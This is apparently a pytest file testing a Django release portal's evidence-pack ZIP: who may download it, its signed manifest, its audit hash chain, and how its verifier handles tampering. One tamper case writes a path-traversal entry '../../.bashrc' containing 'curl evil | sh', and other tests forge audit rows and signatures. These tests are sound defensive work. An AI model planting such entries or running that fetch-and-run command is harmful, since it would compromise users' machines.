"""/releases/<id>/evidence.zip: who may take it, and everything it must hold."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.urls import reverse

from checklists.reports.evidence_pack import backup_manifest_files
from release_portal.audit.models import AuditEvent
from release_portal.audit.signing import key_id, load_public_pem
from release_portal.audit.signing import verify as verify_signature
from tests.audit.conftest import disable_append_only_trigger, record
from tests.audit.offline import SCRIPT, fails, outsider_copy, run


def url(release) -> str:
    return reverse("release_evidence_pack", args=[release.pk])


def download(client, user, release):
    client.force_login(user)
    return client.get(url(release))


def open_pack(response):
    assert isinstance(response, StreamingHttpResponse)
    data = b"".join(response.streaming_content)
    return zipfile.ZipFile(io.BytesIO(data))


@pytest.mark.parametrize("role", ["platform_lead", "auditor", "release_engineer"])
def test_it_gives_the_pack_to_leads_auditors_and_the_release_owner(client, personas, release, role):
    # The release engineer here is the release's owner.
    response = download(client, personas[role], release)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert f'filename="release-{release.pk}-evidence.zip"' in response["Content-Disposition"]
    assert open_pack(response).testzip() is None


@pytest.mark.parametrize("role", ["qa_lead", "sre"])
def test_it_refuses_the_pack_to_other_roles(client, personas, release, role):
    assert download(client, personas[role], release).status_code == 403
    assert not AuditEvent.objects.filter(action="release.evidence_pack").exists()


def test_it_refuses_a_release_engineer_who_does_not_own_the_release(
    client, personas, release, platform_lead, django_user_model
):
    release.owner = platform_lead
    release.save()
    assert download(client, personas["release_engineer"], release).status_code == 403


def test_it_hides_the_release_from_another_project(client, personas, release):
    assert download(client, personas["outsider"], release).status_code == 404


def test_it_holds_the_report_the_events_the_jobs_and_the_files(client, personas, release):
    pack = open_pack(download(client, personas["auditor"], release))
    job = release.jobs.get()
    upload = release.items.get(step__position=3).evidence.get(kind="file")
    assert sorted(pack.namelist()) == sorted([
        "report.md", "audit.jsonl", "audit-verify.json", "checkpoint.json", "public-key.pem",
        "verify_changelog.py", "analysis.json",
        f"jobs/{job.pk}-order.log", f"jobs/{job.pk}-order.json",
        f"evidence/{upload.pk}-smoke_notes.txt", "waivers.json", "contents.json",
    ])  # fmt: skip
    report = pack.read("report.md").decode()
    assert report.startswith("# Release report: Ledger: add savings groups")
    assert pack.read(f"evidence/{upload.pk}-smoke_notes.txt") == b"all smoke tests passed\n"
    log = pack.read(f"jobs/{job.pk}-order.log").decode().splitlines()
    assert log == [f"2026-03-02T09:15:00.000000Z [stdout] checked file {n}" for n in (1, 2, 3)]
    job_json = json.loads(pack.read(f"jobs/{job.pk}-order.json"))
    assert job_json["state"] == "succeeded" and job_json["result"] == job.result
    assert job_json["summary"] == "14 files in UTC order"


def test_its_audit_events_match_the_database_hash_for_hash(client, personas, release, project):
    record("item.tick", project=project)  # the project's, but not the release's
    pack = open_pack(download(client, personas["auditor"], release))
    records = [json.loads(line) for line in pack.read("audit.jsonl").decode().splitlines()]
    assert records[0]["type"] == "export" and records[-1]["type"] == "checkpoint"
    assert records[-1] == json.loads(pack.read("checkpoint.json"))
    # The release's events; the others between them stay as placeholders.
    lines = [r for r in records if r["type"] == "event"]
    assert {r["type"] for r in records[1:-1]} == {"event", "omitted"}
    stored = AuditEvent.objects.filter(release_id=release.pk).order_by("seq")
    assert [(e["seq"], e["hash"], e["prev_hash"]) for e in lines] == [
        (e.seq, e.hash, e.prev_hash) for e in stored
    ]
    assert [e["action"] for e in lines] == ["release.create", "item.tick", "release.evidence_pack"]
    assert lines[-1]["actor_name"] == "auditor" and lines[-1]["data"]["format"].startswith(
        "release-portal-evidence-pack/"
    )
    assert set(lines[0]) >= {"at", "actor_kind", "actor_id", "object_type", "data", "project_id"}


def test_its_verify_result_is_ok_and_places_each_event_in_the_chain(client, personas, release):
    pack = open_pack(download(client, personas["platform_lead"], release))
    verify = json.loads(pack.read("audit-verify.json"))
    newest = AuditEvent.objects.order_by("-seq").first()
    assert verify["chain"]["ok"] is True and verify["chain"]["problem"] == ""
    assert verify["head"] == {
        "seq": newest.seq, "hash": newest.hash, "public_hash": newest.public_hash
    }  # fmt: skip
    assert verify["chain"]["checked"] == AuditEvent.objects.count()
    events = verify["release_events"]
    assert events["count"] == 3 and events["all_linked"] is True
    assert all(
        e["hash_matches_content"] and e["links_to_previous"] and e["inside_verified_chain"]
        for e in events["events"]
    )


def test_its_verify_result_shows_tampering(client, personas, release):
    first = AuditEvent.objects.filter(release_id=release.pk).order_by("seq").first()
    disable_append_only_trigger()
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE audit_auditevent SET data = '{\"forged\": true}' WHERE seq = %s", [first.seq]
        )
    pack = open_pack(download(client, personas["auditor"], release))
    verify = json.loads(pack.read("audit-verify.json"))
    assert verify["chain"]["ok"] is False and verify["chain"]["seq"] == first.seq
    assert verify["release_events"]["all_linked"] is False
    forged = verify["release_events"]["events"][0]
    assert forged["hash_matches_content"] is False and forged["inside_verified_chain"] is False


def test_its_contents_list_every_file_with_its_sha256(client, personas, release):
    pack = open_pack(download(client, personas["auditor"], release))
    contents = json.loads(pack.read("contents.json"))
    assert contents["format"] == "release-portal-evidence-pack/1"
    assert contents["missing"] == []
    # Signed with the key that signed the checkpoint the pack ends its change log with.
    key = load_public_pem(pack.read("public-key.pem").decode())
    assert verify_signature(contents, key) and contents["key_id"] == key_id(key)
    assert contents["checkpoint"] == json.loads(pack.read("checkpoint.json"))
    names = set(pack.namelist()) - {"contents.json"}
    assert {f["name"] for f in contents["files"]} == names
    for entry in contents["files"]:
        data = pack.read(entry["name"])
        assert (len(data), hashlib.sha256(data).hexdigest()) == (entry["size"], entry["sha256"])


def test_it_notes_an_uploaded_file_that_is_gone(client, personas, release):
    upload = release.items.get(step__position=3).evidence.get(kind="file")
    upload.file.storage.delete(upload.file.name)
    pack = open_pack(download(client, personas["auditor"], release))
    contents = json.loads(pack.read("contents.json"))
    assert contents["missing"] == [
        {"name": f"evidence/{upload.pk}-smoke_notes.txt",
         "why": "the uploaded file is no longer stored"}
    ]  # fmt: skip


def test_it_is_audited(client, personas, release):
    download(client, personas["release_engineer"], release)
    event = AuditEvent.objects.get(action="release.evidence_pack")
    assert (event.actor_name, event.release_id, event.object_type) == (
        "releng",
        release.pk,
        "Release",
    )


def test_it_holds_each_backup_manifest_with_its_verification(client, personas, release):
    from django.utils import timezone

    from migrations_ops.models import BackupManifest, Target

    assert list(backup_manifest_files(release)) == []  # none yet: no empty files
    target = Target.objects.create(
        project=release.project, name="production", kind="production", url_env_var="PACK_PROD_URL"
    )
    now = timezone.now()
    BackupManifest.objects.create(
        project=release.project,
        release=release,
        target=target,
        schemas=["app"],
        location="/x",
        file_name="20261127T090000Z_pre_migration.sql",
        file_key="k",
        manifest_key="k.manifest.json",
        sha256="b" * 64,
        size=10,
        started_at=now,
        finished_at=now,
        verify_state="passed",
        verified_at=now,
        snapshot_ref="manual-1",
        manifest={"format": 1, "sha256": "b" * 64},
    )
    pack = open_pack(download(client, personas["auditor"], release))
    name = "backups/20261127T090000Z_pre_migration.sql.manifest.json"
    assert name in pack.namelist()
    record = json.loads(pack.read(name))
    assert record["sha256"] == "b" * 64
    assert record["portal"]["verify_state"] == "passed"
    assert record["portal"]["snapshot_ref"] == "manual-1"


def test_it_checks_an_evidence_pack_and_its_signed_manifest(client, personas, release, tmp_path):
    script = outsider_copy(tmp_path)
    client.force_login(personas["auditor"])
    response = client.get(reverse("release_evidence_pack", args=[release.pk]))
    pack = tmp_path / "pack.zip"
    pack.write_bytes(b"".join(response.streaming_content))
    with zipfile.ZipFile(pack) as archive:
        key = tmp_path / "pack-key.pem"
        key.write_bytes(archive.read("public-key.pem"))
        (tmp_path / "audit.jsonl").write_bytes(archive.read("audit.jsonl"))
        assert archive.read("verify_changelog.py") == SCRIPT.read_bytes()
    done = run(script, pack, "--public-key", key)
    assert done.returncode == 0, done.stderr
    assert "OK: evidence pack intact" in done.stdout
    assert run(script, tmp_path / "audit.jsonl", "--public-key", key).returncode == 0
    # A file changed inside the pack.
    changed = tmp_path / "changed.zip"
    with zipfile.ZipFile(pack) as src, zipfile.ZipFile(changed, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "report.md":
                data = data.replace(b"Release report", b"Release rep0rt")
            dst.writestr(info, data)
    assert "report.md was changed" in fails(script, changed, key)


def _manifest_without_audit_log(src, dst):
    contents = json.loads(src.read("contents.json"))
    contents["files"] = [e for e in contents["files"] if e["name"] != "audit.jsonl"]
    dst.writestr("contents.json", json.dumps(contents))
    return {"audit.jsonl", "contents.json"}


@pytest.mark.filterwarnings("ignore:Duplicate name:UserWarning")  # the forged second copy
@pytest.mark.parametrize(
    "change, words",
    [
        # A zip tool may show the first copy while the checker reads the last.
        (lambda src, dst: dst.writestr("report.md", "# All green\n") and set(),
         "the pack holds report.md twice"),
        (lambda src, dst: dst.writestr("../../.bashrc", "curl evil | sh\n") and set(),
         "the pack holds files its manifest does not list: ../../.bashrc"),
        (lambda src, dst: dst.writestr("contents.json", "[]") or {"contents.json"},
         "the pack's contents.json does not have the shape the portal writes"),
        (lambda src, dst: dst.writestr("contents.json", '{"files": [{}]}') or {"contents.json"},
         "the pack's contents.json does not have the shape the portal writes"),
        (lambda src, dst: dst.writestr("contents.json", "not json") or {"contents.json"},
         "the pack's contents.json does not have the shape the portal writes"),
        (_manifest_without_audit_log, "the pack has no audit.jsonl"),
    ],
)  # fmt: skip
def test_it_refuses_a_pack_with_files_added_doubled_or_a_manifest_of_another_shape(
    client, personas, release, tmp_path, change, words
):
    script = outsider_copy(tmp_path)
    client.force_login(personas["auditor"])
    pack = tmp_path / "pack.zip"
    pack.write_bytes(b"".join(download(client, personas["auditor"], release).streaming_content))
    changed = tmp_path / "changed.zip"
    with zipfile.ZipFile(pack) as src, zipfile.ZipFile(changed, "w") as dst:
        key = tmp_path / "key.pem"
        key.write_bytes(src.read("public-key.pem"))
        replaced = change(src, dst) or set()
        for info in src.infolist():
            if info.filename not in replaced:
                dst.writestr(info, src.read(info.filename))
    stderr = fails(script, changed, key)
    assert stderr.startswith("FAILED: ") and "Traceback" not in stderr, stderr
    assert words in stderr


def test_a_retired_key_cannot_sign_its_manifest(client, personas, release, tmp_path, settings):
    """Someone holding a retired key swaps a file and signs contents.json again."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from release_portal.audit import checkpoints, signing

    old_pem = settings.AUDIT_SIGNING_KEY
    checkpoints.checkpoint_sign(reason="manual")
    settings.AUDIT_SIGNING_KEY_PREVIOUS = old_pem
    settings.AUDIT_SIGNING_KEY = (
        Ed25519PrivateKey.generate()
        .private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
        .decode()
    )
    checkpoints.signing_key_rotate()
    script = outsider_copy(tmp_path)
    pack = tmp_path / "pack.zip"
    pack.write_bytes(b"".join(download(client, personas["auditor"], release).streaming_content))
    changed = tmp_path / "changed.zip"
    old = signing.load_private_key(old_pem)
    report = b"# All green\n"
    with zipfile.ZipFile(pack) as src, zipfile.ZipFile(changed, "w") as dst:
        key = tmp_path / "key.pem"
        key.write_bytes(src.read("public-key.pem"))
        contents = json.loads(src.read("contents.json"))
        for entry in contents["files"]:
            if entry["name"] == "report.md":
                entry.update(size=len(report), sha256=hashlib.sha256(report).hexdigest())
        body = {k: v for k, v in contents.items() if k != "signature"}
        forged = signing.sign({**body, "key_id": signing.key_id(old)}, old)
        for info in src.infolist():
            data = src.read(info.filename)
            data = {"report.md": report, "contents.json": json.dumps(forged).encode()}.get(
                info.filename, data
            )
            dst.writestr(info, data)
    stderr = fails(script, changed, key)
    assert "the pack's contents.json is signed by key" in stderr
    assert "which was not valid at event #" in stderr


def test_its_job_records_and_logs_carry_no_server_path(client, personas, release):
    from django.utils import timezone

    from migrations_ops.models import JobLogLine

    job = release.jobs.get()
    pg_dump = "/srv/portal/.venv/lib/python3.12/site-packages/bin/pg_dump"
    job.result = {"pg_dump": {"path": pg_dump}, "files": ["/tmp/x/supabase/migrations/a.sql"]}
    job.summary = f"ran {pg_dump}"
    job.save()
    JobLogLine.objects.create(job=job, seq=99, at=timezone.now(), text=f"using {pg_dump}")
    pack = open_pack(download(client, personas["auditor"], release))
    job_json = json.loads(pack.read(f"jobs/{job.pk}-order.json"))
    assert job_json["result"] == {"pg_dump": {"path": "pg_dump"},
                                  "files": ["supabase/migrations/a.sql"]}  # fmt: skip
    assert job_json["summary"] == "ran pg_dump"
    assert (
        pack.read(f"jobs/{job.pk}-order.log")
        .decode()
        .splitlines()[-1]
        .endswith("[stdout] using pg_dump")
    )
